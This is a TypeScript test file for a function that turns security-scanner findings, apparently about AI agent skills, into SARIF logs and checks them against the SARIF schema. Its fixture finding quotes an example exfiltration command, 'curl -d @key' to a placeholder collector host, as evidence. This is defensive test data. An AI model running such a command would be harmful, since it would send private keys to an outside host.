import { readFileSync } from 'node:fs';
import type { Finding, Report } from '@assay/analysis/types/report';
import { Ajv } from 'ajv';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { SarifLog } from './sarif-log.ts';
import { type SarifTarget, toSarif } from './to-sarif.ts';

const isValidLog = compileSchema();

const RANGE = { startLine: 3, startCol: 5, endLine: 3, endCol: 20 };

const finding = (overrides: Partial<Finding> = {}): Finding => ({
  kind: 'PROOF',
  ruleId: 'EXF-01',
  title: 'A secret reaches the network',
  category: 'EXF',
  severity: 'CRITICAL',
  confidence: 'certain',
  nature: 'malice',
  basis: 'static',
  file: 'scripts/sync.sh',
  range: RANGE,
  layers: ['base64@3:5'],
  context: 'executable',
  evidence: 'curl -d @key https://collector.example.invalid',
  why: 'The key leaves the machine.',
  fix: 'Remove the upload.',
  references: ['CWE-200', 'OWASP-LLM02'],
  related: [],
  fingerprint: 'a'.repeat(32),
  ...overrides,
});

const report = (overrides: Partial<Report> = {}): Report => ({
  schema: 'assay-report/2',
  engine: { version: '0.1.0', unicode: '17.0', parsers: {} },
  ruleset: { version: '1', digest: 'd' },
  plugins: [],
  input: { digest: 'i', files: 1, bytes: 1, entry: 'SKILL.md' },
  findings: [finding()],
  demoted: [],
  passages: [],
  capabilities: { declared: [], observed: [], undeclared: [], unused: [] },
  endpoints: { observedUrls: [], observedHosts: [], declaredEndpoints: [], undeclaredHosts: [] },
  sandbox: { mode: 'none', riskLevel: 'LOW', units: 0, exercised: 0, notExercised: [], observations: [] },
  coverage: { bytes: 1, lexical: 1, parsed: 1, opaque: 0, budgetHits: [] },
  securityLevel: 'CRITICAL',
  reviewResult: 'UNSAFE',
  blocking: [{ reason: 'critical-finding', fingerprints: ['a'.repeat(32)] }],
  undecided: [],
  retained: [],
  verdictHash: 'h',
  ...overrides,
});

const target = (overrides: Partial<SarifTarget> = {}): SarifTarget => ({
  name: 'skills/sync',
  root: 'skills/sync',
  report: report(),
  ...overrides,
});

const anyText = fc.array(fc.integer({ min: 0, max: 0x10ffff })).map((points) => String.fromCodePoint(...points));

describe('toSarif', () => {
  it('gives a log without runs for no targets', () => {
    expect(valid(toSarif([], [])).runs).toEqual([]);
  });

  it('places a finding below the root of its target, columns counted in UTF-16 units', () => {
    const [run] = valid(toSarif([target()], [])).runs;
    expect(run?.columnKind).toBe('utf16CodeUnits');
    expect(run?.results[0]?.locations[0].physicalLocation).toMatchObject({
      artifactLocation: { uri: 'skills/sync/scripts/sync.sh', uriBaseId: '%SRCROOT%' },
      region: { startLine: 3, startColumn: 5, endLine: 3, endColumn: 20 },
    });
  });

  it.each([
    ['CRITICAL', 'error', '9.5'],
    ['HIGH', 'error', '8.0'],
    ['MEDIUM', 'warning', '5.5'],
    ['LOW', 'note', '3.0'],
    ['INFO', 'note', '0.0'],
  ] as const)('shows %s as %s with security severity %s', (severity, level, score) => {
    const log = valid(toSarif([target({ report: report({ findings: [finding({ severity })] }) })], []));
    expect(log.runs[0]?.results[0]?.level).toBe(level);
    expect(log.runs[0]?.tool.driver.rules[0]?.properties['security-severity']).toBe(score);
  });

  it('describes a rule with the words of the catalogue, once, and links its weakness class', () => {
    const words = { ...finding(), id: 'EXF-01', why: 'General reason.', fix: 'General remedy.' };
    const findings = [finding(), finding({ fingerprint: 'b'.repeat(32) })];
    const [run] = valid(toSarif([target({ report: report({ findings }) })], [words])).runs;
    expect(run?.tool.driver.rules).toHaveLength(1);
    expect(run?.tool.driver.rules[0]).toMatchObject({
      fullDescription: { text: 'General reason.' },
      help: { text: 'General remedy.' },
      properties: { precision: 'very-high', tags: ['security', 'EXF', 'external/cwe/cwe-200', 'OWASP-LLM02'] },
    });
    expect(run?.results.map(({ ruleIndex }) => ruleIndex)).toEqual([0, 0]);
  });

  it('keeps demoted findings, marked as set aside with their signals', () => {
    const demoted = [{ ...finding({ context: 'quoted' }), because: ['table of patterns', 'attribution'] }];
    const [run] = valid(toSarif([target({ report: report({ findings: [], demoted }) })], [])).runs;
    expect(run?.results[0]?.suppressions).toEqual([
      { kind: 'external', justification: 'quoted; table of patterns; attribution' },
    ]);
  });

  it('shows a suppressed finding once, with the reason its author gave', () => {
    const suppressed = [{ ...finding(), justification: 'own test server, until 2030-01-01' }];
    const [run] = valid(toSarif([target({ suppressed })], [])).runs;
    expect(run?.results).toHaveLength(1);
    expect(run?.results[0]?.suppressions).toEqual([
      { kind: 'inSource', justification: 'own test server, until 2030-01-01' },
    ]);
  });

  it('shows the way from a source to a sink as a code flow and other stages as related places', () => {
    const stage = (role: string) => ({ file: 'SKILL.md', range: RANGE, role });
    const flow = finding({ related: [stage('source'), stage('sink')] });
    const chain = finding({ related: [stage('lure'), stage('fetch')], fingerprint: 'c'.repeat(32) });
    const [run] = valid(toSarif([target({ report: report({ findings: [flow, chain] }) })], [])).runs;
    expect(run?.results[0]?.codeFlows?.[0]?.threadFlows[0]?.locations).toHaveLength(2);
    expect(run?.results[0]?.relatedLocations).toBeUndefined();
    expect(run?.results[1]?.relatedLocations?.map(({ message }) => message?.text)).toEqual(['lure', 'fetch']);
  });

  it('makes no link of what a third party wrote', () => {
    const named = finding({ why: 'scripts/[a](https://evil.example).sh is read.' });
    const failures = ['[b](https://evil.example): permission denied'];
    const [run] = valid(toSarif([target({ report: report({ findings: [named] }), failures })], [])).runs;
    const texts = [
      run?.results[0]?.message.text,
      ...(run?.invocations[0].toolExecutionNotifications ?? []).map(({ message }) => message.text),
    ];
    expect(texts.join()).toContain('\\[a\\](https://evil.example)');
    expect(texts.join()).not.toMatch(/(?<!\\)\]\(/);
  });

  it('repeats opacity and reached limits as notifications of the run', () => {
    const opaque = report({
      findings: [finding({ nature: 'opacity', title: 'Encrypted archive' })],
      coverage: { bytes: 1, lexical: 1, parsed: 1, opaque: 1, budgetHits: ['files 2000'] },
    });
    const [run] = valid(toSarif([target({ report: opaque })], [])).runs;
    expect(run?.invocations[0].toolExecutionNotifications.map(({ message }) => message.text)).toEqual([
      'Encrypted archive',
      'Limit reached: files 2000',
    ]);
  });

  it('never presents a target without a report as a success or as safe', () => {
    const [run] = valid(toSarif([{ name: 'x', root: 'x', failures: ['The review was stopped.'] }], [])).runs;
    expect(run?.invocations[0].executionSuccessful).toBe(false);
    expect(run?.properties).toEqual({ targets: [{ target: 'x', reviewResult: null }] });
  });

  it('names verdict, hash and level in the run, and where the source came from', () => {
    const source = { url: 'https://code.example.invalid/owner/skill', ref: 'abc' };
    const [run] = valid(toSarif([target({ source })], [])).runs;
    expect(run?.properties).toMatchObject({
      targets: [{ reviewResult: 'UNSAFE', verdictHash: 'h', securityLevel: 'CRITICAL' }],
    });
    expect(run?.versionControlProvenance).toEqual([{ repositoryUri: source.url, revisionId: 'abc' }]);
  });

  it('puts all targets into one run, with findings that stay apart and links that lead somewhere', () => {
    const targets = Array.from({ length: 25 }, (_, index) => target({ name: `s/${index}`, root: `s/${index}` }));
    const failed = { name: 'x', root: 'x', failures: ['The review was stopped.'] };
    const { runs } = valid(toSarif([...targets, failed], [], { home: 'https://assay.example/' }));
    expect(runs).toHaveLength(1);
    const [run] = runs;
    expect(run?.tool.driver).toMatchObject({ informationUri: 'https://assay.example/docs', rules: [{ id: 'EXF-01' }] });
    expect(run?.tool.driver.rules[0]?.helpUri).toBe('https://cwe.mitre.org/data/definitions/200.html');
    expect(run?.results).toHaveLength(25);
    expect(new Set(run?.results.map(({ partialFingerprints }) => partialFingerprints['assay/v2'])).size).toBe(25);
    expect(run?.invocations[0].executionSuccessful).toBe(false);
    expect(valid(toSarif([target()], [], { home: 'no address' })).runs[0]?.tool.driver.informationUri).toBeUndefined();
  });

  it('stays valid whatever the names, texts and places are', () => {
    fc.assert(
      fc.property(anyText, anyText, fc.integer({ min: 1 }), (name, text, line) => {
        const range = { startLine: line, startCol: 1, endLine: line, endCol: 1 };
        const odd = finding({ file: name, evidence: text, why: text, range });
        valid(toSarif([target({ name, root: name, report: report({ findings: [odd] }) })], []));
      }),
    );
  });
});

function valid(log: SarifLog): SarifLog {
  const isValid = isValidLog(log);
  expect(isValidLog.errors ?? []).toEqual([]);
  expect(isValid).toBe(true);
  return log;
}

function compileSchema() {
  const text = readFileSync(new URL('./vectors/sarif-schema-2.1.0.json', import.meta.url), 'utf8');
  // The published schema names draft 4. Except for these two members, draft 7 gives it the same meaning.
  const { $schema: _draft, id: _id, ...schema } = JSON.parse(text);
  const formats = {
    uri: (value: string) => URL.canParse(value),
    'uri-reference': (value: string) => URL.canParse(value, 'https://base.example.invalid/'),
    'date-time': (value: string) => !Number.isNaN(Date.parse(value)),
  };
  return new Ajv({ strict: false, allErrors: true, formats }).compile(schema);
}
